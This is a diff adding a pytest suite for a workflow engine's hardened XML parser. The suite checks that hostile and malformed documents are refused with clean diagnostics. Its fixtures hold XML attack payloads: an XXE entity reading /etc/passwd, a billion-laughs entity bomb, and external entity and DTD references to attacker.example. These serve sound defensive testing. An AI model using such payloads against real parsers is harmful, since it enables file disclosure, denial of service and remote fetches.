@@ -1,0 +1,129 @@
+"""The hardened parser refuses hostile and broken documents with a diagnostic, never a traceback."""
+
+from __future__ import annotations
+
+import pytest
+from lxml import etree
+
+from wfengine.definition.xpdl.read_context import line_of
+from wfengine.definition.xpdl.reader import read_package
+from wfengine.definition.xpdl.secure import DEFAULT_MAX_BYTES, parse_xml
+from wfengine.errors import XpdlLoadError
+
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE Package [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<Package xmlns="http://www.wfmc.org/2009/XPDL2.2" Id="p">&xxe;</Package>
+"""
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<Package Id="p">&lol9;</Package>
+"""
+
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE Package [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
+<Package Id="p"/>
+"""
+
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE Package SYSTEM "http://attacker.example/evil.dtd">
+<Package Id="p"/>
+"""
+
+GOOD = b"""<?xml version="1.0"?>
+<Package xmlns="http://www.wfmc.org/2009/XPDL2.2" Id="p">
+  <PackageHeader/>
+</Package>
+"""
+
+
+def _refusal(data: bytes, **kwargs: int) -> XpdlLoadError:
+    with pytest.raises(XpdlLoadError) as info:
+        parse_xml(data, **kwargs)
+    exc = info.value
+    # never a raw lxml exception in the chain the caller sees
+    assert not isinstance(exc, etree.LxmlError)
+    assert exc.__cause__ is None
+    return exc
+
+
+def test_external_entity_is_refused_without_reading_the_file() -> None:
+    exc = _refusal(XXE)
+    assert exc.diagnostic.code == "xml-forbidden"
+    assert "xxe" in exc.diagnostic.message
+    assert "root:" not in str(exc)  # nothing from /etc/passwd leaked into the message
+
+
+def test_billion_laughs_is_refused() -> None:
+    assert _refusal(BILLION_LAUGHS).diagnostic.code == "xml-forbidden"
+
+
+def test_external_parameter_entity_is_refused() -> None:
+    assert _refusal(PARAMETER_ENTITY).diagnostic.code == "xml-forbidden"
+
+
+def test_external_dtd_reference_is_refused() -> None:
+    exc = _refusal(EXTERNAL_DTD)
+    assert exc.diagnostic.code == "xml-forbidden"
+    assert "evil.dtd" in exc.diagnostic.message
+
+
+def test_entity_declarations_are_refused_in_utf16_documents_too() -> None:
+    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
+    assert _refusal(doc.encode("utf-16")).diagnostic.code == "xml-forbidden"
+
+
+def test_document_over_the_size_limit_is_refused_before_parsing() -> None:
+    huge = b"<Package Id='p'>" + b"<x/>" * 1000 + b"</Package>"
+    exc = _refusal(huge, max_bytes=1024)
+    assert exc.diagnostic.code == "xml-too-large"
+    assert "1024" in exc.diagnostic.message
+
+
+def test_default_limit_accepts_ordinary_documents() -> None:
+    assert DEFAULT_MAX_BYTES >= 1024 * 1024
+    assert parse_xml(GOOD).getroot().get("Id") == "p"
+
+
+def test_malformed_xml_reports_line_and_reason() -> None:
+    exc = _refusal(b"<Package>\n<a>\n</Package>\n")
+    assert exc.diagnostic.code == "xml-malformed"
+    assert exc.diagnostic.line == 3
+    assert "mismatch" in exc.diagnostic.message
+    assert str(exc).startswith("line 3: xml-malformed")
+
+
+def test_empty_document_is_malformed() -> None:
+    assert _refusal(b"").diagnostic.code == "xml-malformed"
+
+
+def test_undeclared_entity_is_malformed() -> None:
+    assert _refusal(b"<Package>&nope;</Package>").diagnostic.code == "xml-malformed"
+
+
+def test_source_lines_are_kept() -> None:
+    tree = parse_xml(GOOD)
+    header = tree.getroot()[0]
+    assert line_of(header) == 3
+
+
+def test_ordinary_character_references_still_work() -> None:
+    tree = parse_xml(b"<Package Id='a&amp;b&#65;'/>")
+    assert tree.getroot().get("Id") == "a&bA"
+
+
+def test_read_package_names_the_source_in_a_refusal() -> None:
+    with pytest.raises(XpdlLoadError) as info:
+        read_package(XXE, source="upload.xpdl")
+    assert info.value.diagnostic.file == "upload.xpdl"
+    assert info.value.diagnostic.code == "xml-forbidden"
